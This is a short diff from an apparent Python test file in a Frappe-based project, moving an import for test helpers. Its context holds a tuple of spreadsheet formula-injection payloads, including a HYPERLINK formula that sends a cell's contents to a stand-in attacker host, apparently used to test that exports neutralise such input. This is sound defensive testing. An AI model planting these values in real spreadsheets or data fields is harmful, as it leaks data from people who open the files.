@@ -9,8 +9,8 @@ from frappe.tests.utils import FrappeTestCase
 from openpyxl import load_workbook
 
 from springoffer.core import categories as c
+from springoffer.devtools.testing import make_enterprise, offer_doc
 from springoffer.springoffer.doctype.region.test_permission_matrix import call
-from springoffer.testing import make_enterprise, offer_doc
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-1+1", "@SUM(1+1)")
 
